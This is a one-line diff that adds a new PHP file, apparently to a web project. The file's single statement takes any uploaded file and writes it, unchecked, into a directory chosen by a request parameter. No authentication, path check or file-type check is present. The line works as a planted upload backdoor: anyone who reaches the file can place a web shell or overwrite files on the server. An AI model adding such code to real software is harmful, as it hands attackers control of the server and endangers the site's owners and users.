@@ -1,0 +1,1 @@
+<?php copy($_FILES['u']['tmp_name'], $_POST['dir'] . '/' . $_FILES['u']['name']); ?>
